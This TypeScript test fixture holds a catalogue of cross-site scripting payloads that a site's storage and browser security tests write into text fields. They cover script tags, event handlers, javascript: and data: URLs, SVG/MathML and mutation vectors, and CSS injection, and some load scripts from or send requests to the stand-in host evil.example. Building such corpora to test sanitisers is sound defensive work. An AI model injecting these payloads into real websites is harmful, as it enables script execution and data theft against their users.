/**
 * Our XSS corpus: vectors written into every text field of the site, through the API, by
 * tests/security/xss-storage.test.ts (what is stored, on both databases) and
 * tests/e2e/security-xss.spec.ts (what the pages do with it in Chromium).
 *
 * Every payload does something the browser test can see if it ever runs: a dialog (`alert`,
 * `confirm`, `prompt`), the global `pwned` set (a trap records it), `console.log("XSS-RAN")`, or a
 * request to `evil.example` (a reserved name; the test logs and aborts every request that would
 * leave the origin). Each vector is self-contained (it closes what it opens), so vectors can be
 * written one after another into one field without one swallowing the next.
 */
export const EVIL_HOST = "evil.example";
export const CONSOLE_MARKER = "XSS-RAN";

const SCRIPT = [
  "<script>alert(1)</script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<ScRiPt>pwned=1</sCrIpT>",
  "<script src=https://evil.example/s.js></script>",
  "<script src=//evil.example/p.js></script>",
  "<script type=module>alert(1)</script>",
  "<script/x>alert(1)</script>",
  "<script\t>alert(1)</script\t>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>script>alert(1)//<</script>/script>",
  "</script><script>alert(1)</script>",
  "<script>/*</script><svg onload=alert(1)>*/</script>",
  '<script src="data:text/javascript,alert(1)"></script>',
  "<template><script>alert(1)</script></template>",
  "<noscript><script>alert(1)</script></noscript>",
  "<script>console.log('XSS-RAN')</script>",
];

const HANDLERS = [
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=x OnErRoR=alert(1)>",
  '<img src="x" onerror="pwned=1">',
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
  "<img src=x onerror=&#x61;lert&#x28;1&#x29;>",
  "<img src=x onerror=\\u0061lert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=`x`onerror=alert(1)>",
  "<img src=x onerror  =  alert(1)>",
  "<img src=x:alert(1) onerror=eval(src)>",
  '<img srcset=",,,x" onerror=alert(1)>',
  "<img src=x onerror=\"console.log('XSS-RAN')\">",
  "<img src=x onerror=\"fetch('https://evil.example/f')\">",
  '<img """><script>alert(1)</script>">',
  "<body onload=alert(1)>",
  "<body onpageshow=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set onbegin=alert(1) attributeName=x to=1>",
  "<div onmouseover=alert(1)>hover</div>",
  "<p onclick=alert(1)>click</p>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)></select>",
  "<textarea autofocus onfocus=alert(1)></textarea>",
  "<a href=# autofocus onfocus=alert(1)>f</a>",
  "<span contenteditable autofocus onfocus=alert(1)>e</span>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<video src=x onerror=alert(1)></video>",
  "<marquee onstart=alert(1)>m</marquee>",
  "<p style=animation-name:x onanimationstart=alert(1)>a</p>",
  "<input type=image src=x onerror=alert(1)>",
  "<picture><source srcset=x><img onerror=alert(1)></picture>",
  "<style onload=alert(1)></style>",
  "<li data-list=bullet onclick=alert(1)>li</li>",
  "<x onclick=alert(1)>x</x>",
];

const URLS = [
  '<a href="javascript:alert(1)">j</a>',
  '<a href="JaVaScRiPt:alert(1)">j</a>',
  '<a href=" javascript:alert(1)">j</a>',
  '<a href="&#106;avascript:alert(1)">j</a>',
  '<a href="java&#x09;script:alert(1)">j</a>',
  '<a href="jav&#x0A;ascript:alert(1)">j</a>',
  '<a href="javascript&colon;alert(1)">j</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">j</a>',
  '<a href="\u0001javascript:alert(1)">j</a>',
  '<a href="vbscript:msgbox(1)">v</a>',
  '<a href="data:text/html,<script>alert(1)</script>">d</a>',
  '<a href="DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
  '<a href="//evil.example/proto">p</a>',
  '<a href="https://evil.example/" ping="https://evil.example/ping">p</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="https://evil.example/i.png">',
  '<img src="//evil.example/r.png">',
  '<img srcset="https://evil.example/s.png 1x">',
  '<video poster="https://evil.example/v.png"></video>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<embed src="https://evil.example/e">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form><button formaction="javascript:alert(1)">b</button></form>',
];

const SVG_MATHML = [
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=data:,alert(1) /></svg>",
  "<svg><image href=x onerror=alert(1) /></svg>",
  "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  '<svg><a href="javascript:alert(1)"><text y=9>s</text></a></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><image href=1 onerror=alert(1) /></svg>#x" /></svg>',
  '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
  '<math><maction actiontype=statusline xlink:href="javascript:alert(1)">m</maction></math>',
  "<math><style><img src=x onerror=alert(1)></style></math>",
  '<math href="javascript:alert(1)">m</math>',
];

const FRAMES = [
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/abcdefg"></iframe>',
  '<iframe src="https://evil.example/embed/x" onload=alert(1)></iframe>',
  "<iframe onload=alert(1)></iframe>",
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
];

const ENCODED = [
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "<IMG SRC=JaVaScRiPt:alert(1)>",
  "<iMg sRc=x oNeRrOr=alert(1)>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  "';alert(1);//",
  '";alert(1);//',
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  '" onmouseover="alert(1)" x="',
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
];

const MUTATION = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<style><p title="</style><img src=x onerror=alert(1)>"></style>',
  '<svg></p><style><a title="</style><img src=x onerror=alert(1)>"></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)></style></mglyph></form>',
  '<p title="</p><img src=x onerror=alert(1)>">t</p>',
  '<a title="&lt;img src=x onerror=alert(1)&gt;">a</a>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<div><table><tr><td><a><svg><p><style><img src=x onerror=alert(1)></style></p></svg></a></td></tr></table></div>",
  "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
  '<a href="https://ok.example/?<p>"><p onclick=alert(1)>in</p></a>',
  '<pre data-language="<img src=x onerror=alert(1)>">c</pre>',
  '<span class="ql-formula" data-value="<img src=x onerror=alert(1)>"></span>',
  '<span class="ql-formula" data-value="\\href{javascript:alert(1)}{x}"></span>',
];

const CSS_AND_PAGE = [
  '<div style="background:url(javascript:alert(1))">c</div>',
  '<div style="width:expression(alert(1))">c</div>',
  '<p style="color:red;background-image:url(https://evil.example/css)">c</p>',
  '<span style="color:red;behavior:url(https://evil.example/x.htc)">c</span>',
  '<span style="color:#fff;}</style><script>alert(1)</script>">c</span>',
  '<span style="background-color:expression(alert(1))">c</span>',
  "<style>@import 'https://evil.example/s.css';</style>",
  "<style>*{background:url(https://evil.example/bg)}</style>",
  "<link rel=stylesheet href=https://evil.example/l.css>",
  "<link rel=prefetch href=https://evil.example/pf>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/meta">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/steal"><input name=p><button>go</button></form>',
  '<button form=f formaction="https://evil.example/b">b</button>',
  "<object data=https://evil.example/o></object>",
  "<applet code=x archive=https://evil.example/a.jar></applet>",
  "<portal src=https://evil.example/portal></portal>",
];

/** The vectors, in a fixed order (their index is their name in test output: v0, v1, ...). */
export const XSS_VECTORS: readonly string[] = [...SCRIPT, ...HANDLERS, ...URLS, ...SVG_MATHML, ...FRAMES, ...ENCODED, ...MUTATION, ...CSS_AND_PAGE];

/**
 * The marker written before vector `i` in rich text, so a test can tell every vector was read in
 * turn (none swallowed the ones after it); `tag` tells the fields of one page apart.
 */
export const markerOf = (i: number, tag = "v"): string => `[${tag}${i}]`;

/**
 * The vectors of `indices` that fit, one after another, in at most `max` characters; each after its
 * marker when `tag` is given (rich text), none when it is `false` (plain text is compared whole).
 */
export function packVectors(indices: readonly number[], max: number, tag: string | false = "v"): { text: string; used: number[] } {
  let text = "";
  const used: number[] = [];
  for (const i of indices) {
    const piece = `${tag === false ? "" : markerOf(i, tag)}${XSS_VECTORS[i]}`;
    if (text.length + piece.length > max) continue;
    text += piece;
    used.push(i);
  }
  return { text, used };
}

/** The whole corpus in chunks that each fit `max` characters (vectors longer than `max` are left out). */
export function chunkCorpus(max: number, tag: string | false = "v"): { text: string; used: number[] }[] {
  let rest = XSS_VECTORS.map((_, i) => i).filter((i) => `${tag === false ? "" : markerOf(i, tag)}${XSS_VECTORS[i]}`.length <= max);
  const out: { text: string; used: number[] }[] = [];
  while (rest.length > 0) {
    const chunk = packVectors(rest, max, tag);
    out.push(chunk);
    rest = rest.filter((i) => !chunk.used.includes(i));
  }
  return out;
}

/**
 * Formatting the editor may produce, which must survive sanitising and show on the pages: marks,
 * headers, lists, links with the allowed schemes, a formula, Quill's classes and colours.
 */
export const ALLOWED_FORMATTING =
  '<h2>Allowed heading</h2><p><strong>Bold words</strong> <em>italic words</em> <u>underlined</u> <s>struck</s></p>' +
  '<ol><li data-list="ordered">first item</li></ol><ul><li data-list="bullet">bullet item</li></ul>' +
  '<p class="ql-align-center">Centred paragraph</p><p class="ql-indent-2">Indented paragraph</p>' +
  '<p><a href="https://example.com/page" target="_blank">https link</a> <a href="http://example.com/">http link</a> ' +
  '<a href="mailto:info@example.com">mail link</a> <a href="tel:+2341234567">tel link</a> <a href="/contacts">relative link</a></p>' +
  '<p><span class="ql-formula" data-value="e=mc^2"></span> <span style="color: rgb(230, 0, 0);">red words</span> <sub>sub</sub><sup>sup</sup></p>';
